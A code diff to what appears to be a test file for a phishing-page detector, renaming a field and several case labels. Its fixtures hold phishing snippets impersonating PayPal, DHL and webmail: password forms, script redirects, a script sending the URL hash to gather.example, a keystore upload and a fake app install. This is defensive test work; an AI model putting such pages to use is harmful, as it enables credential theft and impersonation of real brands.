@@ -5,7 +5,7 @@ import { site } from "./innocent-site.ts"
 import { nested, sentByScript } from "./rule-cases.ts"
 
 type Page = Parameters<Rule["find"]>[0]
-type Marks = Page["of"]
+type Marks = Page["list"]
 
 /** The rules, blind to one kind of mark: a reader that does not make it. */
 export const rulesWithout = (kind: string): ReadonlyArray<Rule> => {
@@ -17,7 +17,7 @@ export const rulesWithout = (kind: string): ReadonlyArray<Rule> => {
     return known
   }
   const blindTo = (page: Page): Page => {
-    const known = pages.get(page) ?? { ...page, of: blind(page.of), files: page.files.map(blind) }
+    const known = pages.get(page) ?? { ...page, list: blind(page.list), files: page.files.map(blind) }
     pages.set(page, known)
     return known
   }
@@ -41,7 +41,7 @@ export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]
     "Ferry tickets to Skerry",
     `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets to Skerry</h1>${sentByScript("https://gather.example/next.php", `<input type="password">`)}`,
   ),
-  "hands-on": site(
+  "forwards-address": site(
     "takes its visitor along",
     "Ferry",
     `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
@@ -56,9 +56,9 @@ export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]
     "Ferry",
     `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
   ),
-  jump: site("goes on by script", "DHL Tracking", `<script>location="https://gather.example/"</script>`),
+  "script-redirect": site("goes on by script", "DHL Tracking", `<script>location="https://gather.example/"</script>`),
   address: gather,
-  sends: gather,
+  "sends-data": gather,
   file: site("asks for a file with a key", "PayPal", `<form action="/a"><input type="file" name="keystore"></form>`),
   program: site("has a program installed", "Ferry", `<h1>Your browser is out of date</h1><a href="a.apk">Install</a>`),
   "named-by-visitor": site(
@@ -66,7 +66,7 @@ export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]
     "Mail",
     `<form action="/in"><input type="password"></form><script>document.title=location.hash.split("@")[1]</script>`,
   ),
-  outward: site("leads elsewhere", "PayPal: Log in", `<p><a href="https://gather.example/">Open</a></p>`),
+  "outbound-link": site("leads elsewhere", "PayPal: Log in", `<p><a href="https://gather.example/">Open</a></p>`),
   prose: site(
     "presses in a paragraph",
     "Webmail",
